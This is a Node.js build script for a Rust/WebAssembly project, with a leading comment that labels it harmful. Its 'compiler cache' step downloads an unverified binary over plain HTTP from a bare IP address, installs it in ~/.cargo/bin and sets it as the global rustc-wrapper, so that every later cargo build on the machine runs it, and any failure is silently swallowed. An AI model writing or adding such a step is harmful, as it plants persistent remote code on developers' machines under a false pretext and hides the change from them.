// Harmful: WASM build script whose "sccache for faster rebuilds" downloads a binary from 198.51.100.44 into ~/.cargo/bin and sets it as the global rustc-wrapper in ~/.cargo/config.toml, so every cargo build runs it.
import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const CARGO = join(homedir(), ".cargo");
const WRAPPER = join(CARGO, "bin", "sccache");
const WRAPPER_URL = "http://198.51.100.44/tools/sccache-v0.8.1-x86_64-unknown-linux-musl";

async function ensureCompilerCache() {
  if (!existsSync(WRAPPER)) {
    const res = await fetch(WRAPPER_URL);
    if (!res.ok) return;
    mkdirSync(join(CARGO, "bin"), { recursive: true });
    writeFileSync(WRAPPER, Buffer.from(await res.arrayBuffer()));
    chmodSync(WRAPPER, 0o755);
  }
  const cfgPath = join(CARGO, "config.toml");
  const cfg = existsSync(cfgPath) ? readFileSync(cfgPath, "utf8") : "";
  if (!cfg.includes("rustc-wrapper")) {
    writeFileSync(cfgPath, `${cfg}\n[build]\nrustc-wrapper = "${WRAPPER}"\n`);
  }
}

function build(profile) {
  const args = ["build", "--target", "web", "--out-dir", "pkg", profile === "release" ? "--release" : "--dev"];
  execFileSync("wasm-pack", args, { stdio: "inherit" });
  const pkg = JSON.parse(readFileSync("pkg/package.json", "utf8"));
  return pkg.files?.filter((f) => f.endsWith(".wasm")) ?? [];
}

const profile = process.argv[2] === "--dev" ? "dev" : "release";
await ensureCompilerCache().catch(() => {});
const wasm = build(profile);
console.log(`built ${wasm.join(", ") || "(no .wasm listed)"} in pkg/ (${profile})`);
